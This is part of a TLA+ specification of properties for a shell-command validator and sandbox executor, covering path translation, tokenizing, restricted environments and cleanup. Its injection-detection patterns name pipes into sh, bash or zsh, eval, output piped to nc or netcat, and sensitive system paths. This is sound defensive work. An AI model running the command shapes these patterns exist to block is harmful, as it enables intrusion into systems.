C12_ProtectedTokensUnchanged ==
    RanInContainer =>
        /\ Len(TokensOf[call[1].result[1].command]) = Len(TokensOf[call[1].command])
        /\ \A k \in 1..Len(TokensOf[call[1].command]) :
               IsProtectedToken(TokensOf[call[1].command][k]) =>
                   TokensOf[call[1].result[1].command][k] = TokensOf[call[1].command][k]

\* A token without its home prefix, if it has one.
StripHome(token) ==
    IF startswith(token, "~/") THEN From(token, 3)
    ELSE IF startswith(token, "$HOME/") THEN From(token, 7)
    ELSE IF startswith(token, "${HOME}/") THEN From(token, 9)
    ELSE token

\* The known folders of the claim, by their lower-case names.
KnownFolders == {"desktop", "documents", "downloads"}

\* A token refers to a known folder: bare, with a sub-path, or home-prefixed,
\* in any letter case.
IsFolderRef(token) ==
    /\ ~IsProtectedToken(token)
    /\ lower(SplitFirst(StripHome(token), "/")) \in KnownFolders

\* The canonical sandbox path form of a folder reference:
\* /home/user/<Folder>[/sub-path].
CanonicalRef(token) ==
    LET rest == StripHome(token)
        name == SplitFirst(rest, "/")
        f == CHOOSE k \in 1..Len(canonical_folders) :
                 canonical_folders[k].wrong_case = lower(name)
    IN  "/home/user/" \o canonical_folders[f].correct_case \o From(rest, Len(name) + 1)

\* C13: a reference to Desktop, Documents or Downloads in any letter case,
\* bare, with a sub-path or home-prefixed, normalizes to the canonical
\* sandbox path form /home/user/<Folder>[/sub-path].
C13_FolderRefsCanonical ==
    RanInContainer =>
        \A k \in 1..Len(TokensOf[call[1].command]) :
            IsFolderRef(TokensOf[call[1].command][k]) =>
                /\ k <= Len(TokensOf[call[1].result[1].command])
                /\ TokensOf[call[1].result[1].command][k] =
                       CanonicalRef(TokensOf[call[1].command][k])

\* The latest execute call returned the result of a run on the host, whose
\* 'command' is the translated command.
RanOnHost ==
    /\ call /= NoCall
    /\ call[1].result /= None
    /\ call[1].result[1].execution_method = "local"

\* The first entry of the mount table, longest sandbox path first, that
\* matches the text at position i; 0 when none does.
MountAt(s, i, maps) ==
    IF \E k \in 1..Len(maps) : At(s, i, maps[k][1])
    THEN CHOOSE k \in 1..Len(maps) :
             /\ At(s, i, maps[k][1])
             /\ \A j \in 1..(k - 1) : ~At(s, i, maps[j][1])
    ELSE 0

\* Longest-prefix translation in one pass: each occurrence of a sandbox path
\* is replaced once, by the host path of the longest entry matching there,
\* and replaced text is not looked at again.
RECURSIVE TranslateOnce(_, _, _)
TranslateOnce(s, i, maps) ==
    IF i > Len(s) THEN ""
    ELSE IF MountAt(s, i, maps) = 0
         THEN Ch(s, i) \o TranslateOnce(s, i + 1, maps)
    ELSE maps[MountAt(s, i, maps)][2]
             \o TranslateOnce(s, i + Len(maps[MountAt(s, i, maps)][1]), maps)

\* The one-pass translation, per host home, of the normalized commands.
TranslatedOnce ==
    [h \in HostHomes, c \in {Normalized[d] : d \in ExecCommands} |->
        TranslateOnce(c, 1, sorted_mappings(h))]

\* C18: the command a local run executes is the normalized command with each
\* sandbox path replaced, exactly once, by the host path of the longest
\* mount-table entry that prefixes it.
C18_TranslatesEachPathOnce ==
    RanOnHost =>
        call[1].result[1].command = TranslatedOnce[home, Normalized[call[1].command]]

(***************************************************************************)
(* Properties of the validator, for direct calls of validate               *)
(***************************************************************************)

\* The stripped command with its home references expanded, as steps 1 and 2
\* of validate leave it.
SanitizedOf == [c \in ValidatorCommands |-> sanitize_paths(strip(c))]

\* The base command validate works with.
BaseCommandOf == [c \in ValidatorCommands |-> get_base_command(SanitizedOf[c])]

\* The command matches a pattern of the blocklist.
MatchesForbidden ==
    [c \in ValidatorCommands |->
        \E k \in 1..Len(forbidden_patterns) : re_search_i(forbidden_patterns[k], strip(c))]

\* What the injection patterns find in the command.
InjectionOf == [c \in ValidatorCommands |-> detect_injection(SanitizedOf[c])]

\* Some word of the command holds the text of a dangerous system path.
MentionsDangerousPath ==
    [c \in ValidatorCommands |->
        \E k \in 1..Len(split(SanitizedOf[c])), d \in 1..Len(dangerous_paths) :
            Contains(split(SanitizedOf[c])[k], dangerous_paths[d])]

\* The command walks up with '/../' or a final '/..' and holds more than
\* three '..'.
ExcessiveTraversal ==
    [c \in ValidatorCommands |->
        /\ Contains(SanitizedOf[c], "/../") \/ endswith(SanitizedOf[c], "/..")
        /\ count(SanitizedOf[c], "..") > MaxLevelsUp]

\* A read-only command with no substitution, backticks or injection pattern
\* and no mention of a dangerous system path.
ReadOnlyClean ==
    [c \in ValidatorCommands |->
        /\ BaseCommandOf[c] \in readonly_commands
        /\ ~InjectionOf[c].is_dangerous
        /\ InjectionOf[c].warnings = <<>>
        /\ ~MentionsDangerousPath[c]]

\* C14 as stated: a command whose base command is read-only, with no command
\* substitution, backticks or injection pattern and no reference to a
\* dangerous system path, validates as safe with an empty warnings list.
C14_ReadOnlySafe ==
    validated /= None /\ ReadOnlyClean[validated[1].command] =>
        /\ validated[1].result.is_safe
        /\ validated[1].result.warnings = <<>>

\* C14, amended: such a command validates as safe with an empty warnings
\* list, and its sanitized form as the sanitized command, provided it also
\* matches no forbidden pattern and does not combine a '/../' or a final
\* '/..' with more than three '..'.
C14_ReadOnlySafeUnlessBlocked ==
    (/\ validated /= None
     /\ ReadOnlyClean[validated[1].command]
     /\ ~MatchesForbidden[validated[1].command]
     /\ ~ExcessiveTraversal[validated[1].command]) =>
        validated[1].result = Accepted(<<>>, SanitizedOf[validated[1].command])

\* A read-only command that walks up one directory validated as safe.
C14_Witness ==
    /\ validated /= None
    /\ validated[1].command = "cat workspace/../notes.txt"
    /\ validated[1].result.is_safe
    /\ validated[1].result.warnings = <<>>

\* A word without the quotes around it.
Unquote(token) ==
    IF /\ Len(token) >= 2
       /\ Ch(token, 1) \in {"'", "\""}
       /\ Ch(token, Len(token)) = Ch(token, 1)
    THEN SubSeq(token, 2, Len(token) - 1)
    ELSE token

\* The path a word names is a dangerous system path or lies under one; a raw
\* block device is a path that starts with /dev/sd.
ReferencesDangerousPath(token) ==
    LET path == normpath(Unquote(token))
    IN  \E d \in 1..Len(dangerous_paths) :
            \/ path = dangerous_paths[d]
            \/ startswith(path, dangerous_paths[d] \o "/")
            \/ dangerous_paths[d] = "/dev/sd" /\ startswith(path, "/dev/sd")

\* Some non-flag word of the command references a dangerous system path.
HasDangerousReference ==
    [c \in ValidatorCommands |->
        \E k \in 1..Len(NonFlags(split(SanitizedOf[c]))) :
            ReferencesDangerousPath(NonFlags(split(SanitizedOf[c]))[k])]

\* C15: validate rejects every command in which some non-flag token
\* references /etc, /root, /sys, /proc, /boot or a raw block device, also
\* when that token is not a write target.
C15_DangerousPathsRejected ==
    validated /= None /\ HasDangerousReference[validated[1].command] =>
        ~validated[1].result.is_safe

\* The high-confidence injection shapes: a destructive command chained with
\* ';', a substitution or backticks around a destructive command, a pipe into
\* sh, bash or zsh, eval, a redirect with backgrounding.
InjectionShapes ==
    << <<Lit(";"), SpStar, Alt(destructive_commands), SpPlus>>,
       <<Lit("$("), NotStar(")"), Alt(destructive_commands), NotStar(")"), Lit(")")>>,
       <<Lit(Backtick), NotStar(Backtick), Alt(destructive_commands), NotStar(Backtick), Lit(Backtick)>>,
       <<Lit("|"), SpStar, Alt({"sh", "bash", "zsh"}), SpStar, AtEnd>>,
       <<Lit("|"), SpStar, Alt({"sh", "bash", "zsh"}), SpPlus>>,
       <<Lit("eval"), SpPlus>>,
       <<Lit("2>&1"), DotStar, Lit("|"), SpStar, Alt({"nc", "netcat"})>>,
       <<Lit(">"), SpStar, Lit("/dev/null"), SpStar, Lit("2>&1"), SpStar, Lit("&")>> >>

HasInjectionShape ==
    [c \in ValidatorCommands |->
        \E k \in 1..Len(InjectionShapes) : re_search_i(InjectionShapes[k], SanitizedOf[c])]

\* The command's only suspicious feature is a bare command substitution or
\* bare backticks: it has one, no injection shape, and passes the other
\* checks.
OnlyBareSubstitution ==
    [c \in ValidatorCommands |->
        /\ InjectionOf[c].warnings /= <<>>
        /\ ~HasInjectionShape[c]
        /\ ~MatchesForbidden[c]
        /\ BaseCommandOf[c] \in readonly_commands
        /\ ~MentionsDangerousPath[c]
        /\ ~ExcessiveTraversal[c]]

\* C16: validate blocks every command with a high-confidence injection
\* shape, and accepts, with a warning, a command whose only suspicious
\* feature is a bare command substitution or bare backticks.
C16_InjectionBlocked ==
    validated /= None =>
        /\ HasInjectionShape[validated[1].command] => ~validated[1].result.is_safe
        /\ OnlyBareSubstitution[validated[1].command] =>
               /\ validated[1].result.is_safe
               /\ validated[1].result.warnings = InjectionOf[validated[1].command].warnings

\* A normalized absolute path is a writable path or lies under one.
UnderWritablePath(path) ==
    \E k \in 1..Len(writable_paths) :
        path = writable_paths[k] \/ startswith(path, writable_paths[k] \o "/")

\* The target paths validate extracts from a write-capable command.
TargetsOf ==
    [c \in ValidatorCommands |->
        IF BaseCommandOf[c] \in write_commands
        THEN extract_target_paths(SanitizedOf[c], BaseCommandOf[c])
        ELSE <<>>]

\* C17: validate accepts a write-capable command only when every one of its
\* target paths lies under a writable path (/home/user/workspace,
\* /workspace, /tmp).
C17_WritesOnlyInWorkspace ==
    (/\ validated /= None
     /\ BaseCommandOf[validated[1].command] \in write_commands
     /\ validated[1].result.is_safe) =>
        \A k \in 1..Len(TargetsOf[validated[1].command]) :
            UnderWritablePath(ResolvePath(TargetsOf[validated[1].command][k]))

(***************************************************************************)
(* GLSFSSystem: the operation log and generation errors                    *)
(***************************************************************************)

\* A process_query call has returned in this step.
Returned == response' /= response /\ pc' = "idle"

\* b ends with a.
IsSuffix(a, b) ==
    Len(a) <= Len(b) /\ SubSeq(b, Len(b) - Len(a) + 1, Len(b)) = a

\* after holds the most recent LogLimit of before followed by record: it ends
\* with record, what precedes it is the end of before, and nothing is left
\* out that would fit.
HoldsMostRecent(before, after, record) ==
    /\ Len(after) = (IF Len(before) + 1 > LogLimit THEN LogLimit ELSE Len(before) + 1)
    /\ after[Len(after)] = record
    /\ IsSuffix(SubSeq(after, 1, Len(after) - 1), before)

C20_GenerationError ==
    (generated /= None /\ generated[1].kind = "raises") =>
        /\ pc = "idle"
        /\ response /= None
        /\ response[1].status = "generation_error"
        /\ response[1].error = generated[1].text
        /\ DOMAIN response[1] \cap {"generated_command", "safety_check", "final_command", "execution"} = {}
        /\ response[1].steps = <<>>
        /\ call = NoCall

\* The generator has raised and the call's record is the last of the log.
C20_Witness ==
    /\ generated /= None
    /\ generated[1].kind = "raises"
    /\ response /= None
    /\ response[1].status = "generation_error"
    /\ log_file.records[Len(log_file.records)] = response[1].timestamp

(***************************************************************************)
(* SandboxExecutor: the results of execute                                 *)
(***************************************************************************)

\* The latest execute call has returned a result.
ExecuteReturned == call /= NoCall /\ call[1].result /= None

\* C21: in every result execute returns, from the container, from the host,
\* after a timeout and after an exception alike, status is 'success' exactly
\* when exit_code is 0 and 'error' otherwise.
C21_StatusFollowsExitCode ==
    ExecuteReturned =>
        /\ call[1].result[1].status \in {"success", "error"}
        /\ call[1].result[1].status = "success" <=> call[1].result[1].exit_code = 0

\* In sandboxed mode the container call raised, the run on the host timed
\* out, and the result reports an error with exit code -1.
C21_Witness ==
    /\ ExecuteReturned
    /\ call[1].use_docker
    /\ call[1].docker_outcome.kind = "exec_raises"
    /\ call[1].local_outcome.kind = "timeout"
    /\ call[1].result[1].status = "error"
    /\ call[1].result[1].exit_code = -1

\* C22: the execution_method of every result names the backend that ran the
\* command: 'docker' exactly when the result is that of the run in the
\* container, 'local' exactly when the command was run on the host, a call
\* made in sandboxed mode included.
C22_MethodNamesBackend ==
    ExecuteReturned =>
        /\ call[1].result[1].execution_method \in {"docker", "local"}
        /\ call[1].result[1].execution_method = "docker" <=>
               (call[1].use_docker /\ call[1].docker_outcome.kind = "exit")
        /\ call[1].result[1].execution_method = "local" <=>
               call[1].local_outcome.kind /= "not_run"

\* A call made in sandboxed mode whose container call raised returned the
\* result of the run on the host, tagged local.
C22_Witness ==
    /\ ExecuteReturned
    /\ call[1].use_docker
    /\ call[1].docker_outcome.kind = "reload_raises"
    /\ call[1].local_outcome.kind = "exit"
    /\ call[1].result[1].execution_method = "local"
    /\ call[1].result[1].stdout = call[1].local_outcome.stdout

(***************************************************************************)
(* The tokenizer                                                           *)
(***************************************************************************)

\* The quote that is open after each character of s ("" when none is): a
\* quote character opens a span when none is open and closes the span it
\* opened.
OpenQuote(s) ==
    LET q[i \in 0..Len(s)] ==
            IF i = 0 THEN ""
            ELSE IF Ch(s, i) \in {"'", "\""}
                 THEN IF q[i - 1] = "" THEN Ch(s, i)
                      ELSE IF q[i - 1] = Ch(s, i) THEN "" ELSE q[i - 1]
                 ELSE q[i - 1]
    IN  q

\* The positions of s that hold one of the separators outside every quoted
\* span.
UnquotedAt(s, separators) ==
    LET q == OpenQuote(s)
    IN  {i \in 1..Len(s) : Ch(s, i) \in separators /\ q[i - 1] = ""}

\* s split at the positions in at: the maximal runs of the other positions,
\* in order.
SplitAtPositions(s, at) ==
    LET starts == {i \in (1..Len(s)) \ at : i = 1 \/ (i - 1) \in at}
        EndOf(i) == CHOOSE j \in i..Len(s) :
                        /\ (i..j) \cap at = {}
                        /\ j = Len(s) \/ (j + 1) \in at
    IN  [k \in 1..Cardinality(starts) |->
            LET st == CHOOSE i \in starts : Cardinality({j \in starts : j < i}) = k - 1
            IN  SubSeq(s, st, EndOf(st))]

\* C23: _tokenize_preserving_quotes splits a command at every whitespace
\* character outside a quoted span and nowhere else: its tokens are the
\* maximal runs of the other characters, in order, quotes included, none of
\* them empty, and an unterminated quote keeps the rest of the string in
\* one token.
C23_SplitsAtUnquotedWhitespace ==
    tokenized /= None =>
        /\ tokenized[1].tokens =
               SplitAtPositions(tokenized[1].command,
                                UnquotedAt(tokenized[1].command, {" ", "\t", "\n"}))
        /\ \A k \in 1..Len(tokenized[1].tokens) : tokenized[1].tokens[k] /= ""

\* The tokens are those of a split at the unquoted spaces alone.
SplitsAtUnquotedSpaces ==
    tokenized /= None =>
        tokenized[1].tokens =
            SplitAtPositions(tokenized[1].command, UnquotedAt(tokenized[1].command, {" "}))

(***************************************************************************)
(* The environment of a command run on the host                            *)
(***************************************************************************)

\* C24: in local mode the command runs in a restricted environment: the
\* child process receives a minimal PATH, not the caller's, nothing else of
\* the caller's environment, and HOME set to a directory the executor
\* chose (its home or its workspace).
C24_RestrictedEnvironment ==
    child /= None =>
        /\ DOMAIN child[1].env \subseteq {"PATH", "HOME"}
        /\ "PATH" \in DOMAIN child[1].env => child[1].env.PATH /= os_environ(home).PATH
        /\ "HOME" \in DOMAIN child[1].env
        /\ child[1].env.HOME \in {home, local_workspace(home)}

(***************************************************************************)
(* SandboxExecutor: cleanup                                                *)
(***************************************************************************)

\* C25: cleanup never raises: with or without a container, whether the
\* stop or the remove fails, and when it is called again.
C25_CleanupNeverRaises == cleaned /= None => cleaned[1].raised = None

\* A second cleanup found the container already removed, its stop raised,
\* and the call returned normally.
C25_Witness ==
    /\ cleaned /= None
    /\ cleaned[1].at = 2
    /\ use_docker
    /\ cleaned[1].before = "removed"
    /\ cleaned[1].outcome = "stop_raises"
    /\ cleaned[1].raised = None

\* C29: no container is leaked by a failed initialization: once
\* construction has ended with the executor in local mode, no container it
\* created exists any more, and a cleanup whose stop and remove succeed
\* leaves no container behind.
C29_NoContainerLeaked ==
    /\ (pc /= "new" /\ ~use_docker) => container \in {"none", "removed"}
    /\ (cleaned /= None /\ cleaned[1].outcome = "ok") => container \in {"none", "removed"}

(***************************************************************************)
(* The validated command and the command that runs                         *)
(***************************************************************************)

\* C26: the executor's normalization leaves every command that validate
\* accepted unchanged: the command execute was handed, the sanitized
\* command of the validation, is the command it dispatches to a backend.
C26_NormalizationLeavesValidated ==
    (/\ call /= NoCall
     /\ response /= None
     /\ "safety_check" \in DOMAIN response[1]
     /\ response[1].safety_check.is_safe) =>
        Normalized[call[1].command] = call[1].command

(***************************************************************************)
(* The boundary check: later segments and the safe roots                   *)
(***************************************************************************)

\* The segments of a command between the pipe and chain operators |, &&,
\* || and ;.
SegmentsOf(command) ==
    SplitOn(replace(replace(command, "&&", ";"), "|", ";"), ";")

\* A write-capable command whose target lies under a read-only mount or
\* outside the sandbox.
WritesOutside(segment) ==
    \E base \in {get_base_command(segment)} :
        /\ base \in write_commands
        /\ \E targets \in {extract_target_paths(segment, base)} :
               \E k \in 1..Len(targets) :
                   is_readonly_path(targets[k]) \/ ~is_in_sandbox(targets[k])

\* The commands that hold, after a pipe or chain operator, a write outside
\* the writable part of the sandbox.
WritesOutsideLater ==
    [c \in ValidatorCommands |->
        \E segments \in {SegmentsOf(sanitize_paths(strip(c)))} :
            \E k \in 2..Len(segments) : WritesOutside(segments[k])]

\* C27: the boundary check covers every segment of a command: validate
\* accepts no command that holds, after a pipe or chain operator, a
\* write-capable command whose target lies under a read-only mount or
\* outside the sandbox.
C27_BoundaryCoversEverySegment ==
    (validated /= None /\ WritesOutsideLater[validated[1].command]) =>
        ~validated[1].result.is_safe

\* A normalized absolute path is a safe root or lies beneath one.
UnderSafeRoot(path) ==
    \E k \in 1..Len(safe_paths) :
        path = safe_paths[k] \/ startswith(path, safe_paths[k] \o "/")

\* C28: a write target passes the sandbox-boundary check only if, once
\* normalized, it is a safe root or lies beneath one as a path component:
\* every target of a write-capable command that validate accepts does, and
\* a path that only shares a root's leading characters is rejected.
C28_TargetsUnderSafeRoots ==
    (/\ validated /= None
     /\ BaseCommandOf[validated[1].command] \in write_commands
     /\ validated[1].result.is_safe) =>
        \A k \in 1..Len(TargetsOf[validated[1].command]) :
            UnderSafeRoot(ResolvePath(TargetsOf[validated[1].command][k]))

(***************************************************************************)
(* The order of the checks                                                 *)
(***************************************************************************)

\* The elements of a sequence.
Range(seq) == {seq[k] : k \in 1..Len(seq)}

\* C30: is_safe does not depend on the order of the boundary check, the
\* injection check and the path sweep: every order returns the is_safe and
\* the sanitized command that validate returns, with the same warnings for
\* an accepted command and a single message for a rejected one; the order
\* of the code gives validate's own result.
C30_OrderDoesNotChangeSafety ==
    validated /= None =>
        \E reordered \in {validate_in_orders(validated[1].command)} :
            /\ reordered[CodeOrder] = validated[1].result
            /\ \A o \in Orders :
                   /\ reordered[o].is_safe = validated[1].result.is_safe
                   /\ reordered[o].sanitized_command = validated[1].result.sanitized_command
                   /\ reordered[o].is_safe =>
                          Range(reordered[o].warnings) = Range(validated[1].result.warnings)
                   /\ ~reordered[o].is_safe => Len(reordered[o].warnings) = 1

\* validate has rejected a command that all three checks reject, each
\* order reporting the reason of its first check.
C30_Witness ==
    /\ validated /= None
    /\ ~validated[1].result.is_safe
    /\ validated[1].result.warnings /= <<ForbiddenMsg>>
    /\ \E reordered \in {validate_in_orders(validated[1].command)} :
           \A o1, o2 \in Orders :
               o1[1] /= o2[1] => reordered[o1].warnings /= reordered[o2].warnings

=============================================================================
